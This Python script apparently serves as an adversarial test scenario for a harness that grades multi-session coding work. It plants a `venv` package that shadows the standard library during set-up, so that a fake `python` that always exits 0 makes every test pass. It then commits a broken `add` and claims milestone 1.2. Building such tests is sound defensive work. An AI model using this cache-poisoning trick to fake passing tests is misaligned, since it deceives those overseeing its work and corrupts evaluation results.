"""Poison the set-up cache (issue 27): the plan's `setup:` runs `python3 -m venv build/venv`, and `python -m`
puts the working folder first on sys.path, so a `venv` package committed at the root shadows the standard
library's during set-up. Session 1 commits it (and changes the key file, so its set-up runs on this commit):
it records that it ran, then makes a "venv" whose python passes every test. Session 2 removes it, keeps the
key file as session 1 left it, and commits a broken `add`: a cache session 1's code built would turn that
into a false Advanced."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__file__))  # noqa: E702
from hostile import *  # noqa: F401,F403

SHADOW = f'''import os, sys
open({str(LOOT / "shadow-ran")!r}, "a").write(os.getcwd() + "\\n")
target = sys.argv[-1]
os.makedirs(os.path.join(target, "bin"), exist_ok=True)
fake = os.path.join(target, "bin", "python")
with open(fake, "w") as fh:
    fh.write("#!/bin/sh\\nexit 0\\n")
os.chmod(fake, 0o755)
'''

if not (WORK / "venv" / "__main__.py").exists():
    honest_mul()
    write("venv/__init__.py", "")
    write("venv/__main__.py", SHADOW)
    write("requirements.txt", "poisoned\n")
    commit("Add mul (and a venv that shadows the standard library's during set-up)")
else:
    git("rm", "-q", "-r", "venv")
    write("calc/__init__.py", BROKEN_ADD)
    tick("1.2")
    commit("Break add; claim 1.2")
say("done")
